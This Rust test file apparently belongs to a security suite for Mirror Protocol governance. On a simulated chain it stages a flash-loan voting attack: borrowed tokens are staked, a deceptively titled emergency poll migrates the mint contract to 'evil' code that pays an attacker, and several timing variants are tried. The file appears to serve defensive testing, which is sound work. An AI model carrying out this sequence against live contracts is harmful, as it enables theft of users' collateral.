//! Borrowed votes that pass and carry out a poll before they are given back.

use cosmwasm_std::{to_json_binary, Binary};
use mirror_deploy::Listing;
use mirror_protocol::gov::{Cw20HookMsg, ExecuteMsg, PollAdminAction, VoteOption};
use mirror_testing::{percent, standard_profile, usual_params, TestChain, World};

use super::super::bundle::Bundle;
use super::super::scenes::{self, DAY, MILLION, UNIT};
use super::super::stage::Stage;
use super::super::told::{Attempt, Findings};
use super::super::{evil, Attack};

pub(super) const ATTACK: Attack = Attack {
    name: "flash-voted migration",
    story: "Beanstalk, April 2022, 182 million dollars; open in Mirror v2, too: borrowed votes \
            staked, voted, ended and carried out an emergency poll in one transaction.",
    run,
};

/// Three of four votes, against the million each of alice, bob and carol: a migration takes two
/// of three.
const BORROWED: u128 = 9 * MILLION;
const DEPOSIT: u128 = 2_000 * UNIT;
const POLL: u64 = 1;
/// From then on a migration that is clear enough ends early.
const MATURE: u64 = 31 * DAY;
/// What mint holds for alice.
const COLLATERAL: u128 = 10 * MILLION;

fn run() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![
            in_one_transaction()?,
            in_one_block()?,
            with_votes_of_the_last_block()?,
            with_votes_of_a_day(0)?,
        ],
        exposures: vec![with_votes_of_a_day(MATURE)?.exposes(
            "three of four votes are really held, in view, from before the poll until a day after \
             it, and nobody stakes more against them beforehand: mint's coins are theirs",
        )],
    })
}

fn in_one_transaction() -> anyhow::Result<Attempt> {
    let mut scene = Scene::new()?;
    let bundle = scene.stakes(Bundle::new());
    let bundle = scene.proposes(bundle);
    let bundle = scene.votes(bundle);
    let bundle = scene.tells(bundle, &ExecuteMsg::EndPoll { poll_id: POLL });
    let bundle = scene.tells(bundle, &ExecuteMsg::ExecutePoll { poll_id: POLL });
    let bundle = scene.tells(bundle, &takes_back());
    scene.stage.tries("T-60", bundle)?;
    scene.stage.ends(
        "with three of four votes borrowed: staked, created a poll that gives mint other code, \
         voted, ended it, carried it out and withdrew, in one transaction",
    )
}

fn in_one_block() -> anyhow::Result<Attempt> {
    let mut scene = Scene::new()?;
    let bundle = scene.stakes(Bundle::new());
    let bundle = scene.proposes(bundle);
    let bundle = scene.votes(bundle);
    scene.stage.does(bundle)?;
    for msg in [
        ExecuteMsg::EndPoll { poll_id: POLL },
        ExecuteMsg::ExecutePoll { poll_id: POLL },
        takes_back(),
    ] {
        let bundle = scene.tells(Bundle::new(), &msg);
        scene.stage.tries("T-60", bundle)?;
    }
    scene.stage.world.chain.pass(6);
    let bundle = scene.tells(Bundle::new(), &takes_back());
    scene.stage.tries("T-60", bundle)?;
    scene.stage.ends(
        "the same in one block, a transaction for each step; in the next block the loan is still \
         locked by its vote",
    )
}

fn with_votes_of_the_last_block() -> anyhow::Result<Attempt> {
    let mut scene = Scene::new()?;
    let bundle = scene.proposes(Bundle::new());
    scene.stage.does(bundle)?;
    scene.stage.world.chain.pass(DAY);
    let bundle = scene.stakes(Bundle::new());
    let bundle = scene.votes(bundle);
    let bundle = scene.tells(bundle, &ExecuteMsg::EndPoll { poll_id: POLL });
    scene.stage.tries("T-60", bundle)?;
    scene.stage.world.chain.pass(6);
    let bundle = scene.tells(Bundle::new(), &ExecuteMsg::ExecutePoll { poll_id: POLL });
    scene.stage.tries("T-60", bundle)?;
    scene
        .stage
        .ends("created the poll a day ahead and borrowed the votes for its last block")
}

/// No loan: the votes stay for a day, in which everybody sees the poll.
fn with_votes_of_a_day(age: u64) -> anyhow::Result<Attempt> {
    let mut scene = Scene::aged(age)?;
    let bundle = scene.stakes(Bundle::new());
    let bundle = scene.proposes(bundle);
    let bundle = scene.votes(bundle);
    scene.stage.does(bundle)?;
    scene.stage.world.chain.pass(DAY);
    let bundle = scene.tells(Bundle::new(), &ExecuteMsg::EndPoll { poll_id: POLL });
    scene.stage.tries("T-60", bundle)?;
    scene.stage.world.chain.pass(6);
    let bundle = scene.tells(Bundle::new(), &ExecuteMsg::ExecutePoll { poll_id: POLL });
    scene.stage.tries("T-60", bundle)?;
    scene.stage.ends(
        "really held three of four votes, and ended the poll after a day, in the first 30 days of \
         a protocol that gov owns",
    )
}

/// A governed protocol with coins in mint, and the code that would take them.
struct Scene {
    stage: Stage,
    evil_code: u64,
    migrate: Binary,
}

impl Scene {
    fn new() -> anyhow::Result<Self> {
        Self::aged(MATURE)
    }

    /// So long after gov has taken over.
    fn aged(age: u64) -> anyhow::Result<Self> {
        let mut profile = standard_profile(&TestChain::new());
        profile.assets.push(Listing {
            name: "Apple".to_string(),
            symbol: "mAAPL".to_string(),
            feeder: None,
            params: usual_params(),
        });
        let mut world = World::governed_as(profile);
        world.feeds(&[("mAAPL", "10")]);
        world.alice().opens(COLLATERAL, "mAAPL", percent(200));
        world.chain.pass(age);
        let attacker = world.chain.account("attacker");
        world.gives_mir(&attacker, BORROWED + DEPOSIT);
        let migrate = to_json_binary(&evil::MigrateMsg {
            thief: Some(attacker),
            token: None,
        })?;
        Ok(Self {
            evil_code: world.chain.app.store_code(evil::code()),
            stage: Stage::new(world, &[("MIR", scenes::price("0.5")?)])?,
            migrate,
        })
    }

    fn stakes(&self, bundle: Bundle) -> Bundle {
        self.hands(bundle, BORROWED, &Cw20HookMsg::StakeVotingTokens {})
    }

    fn proposes(&self, bundle: Bundle) -> Bundle {
        let mint = self.stage.world.at.mint.to_string();
        let migration = (mint, self.evil_code, self.migrate.clone());
        let create = Cw20HookMsg::CreatePoll {
            title: "Urgent repair of mint".to_string(),
            description: "Keep your coins safe".to_string(),
            link: None,
            execute_msg: None,
            admin_action: Some(PollAdminAction::ExecuteMigrations {
                migrations: vec![migration],
            }),
        };
        self.hands(bundle, DEPOSIT, &create)
    }

    fn votes(&self, bundle: Bundle) -> Bundle {
        let vote = ExecuteMsg::CastVote {
            poll_id: POLL,
            vote: VoteOption::Yes,
            amount: BORROWED.into(),
        };
        self.tells(bundle, &vote)
    }

    fn hands(&self, bundle: Bundle, amount: u128, hook: &Cw20HookMsg) -> Bundle {
        let at = &self.stage.world.at;
        bundle.hands(&at.mirror_token, amount, &at.gov, hook)
    }

    fn tells(&self, bundle: Bundle, msg: &ExecuteMsg) -> Bundle {
        bundle.tells(&self.stage.world.at.gov, msg)
    }
}

/// By amount: without one gov pays what is free.
fn takes_back() -> ExecuteMsg {
    ExecuteMsg::WithdrawVotingTokens {
        amount: Some(BORROWED.into()),
    }
}
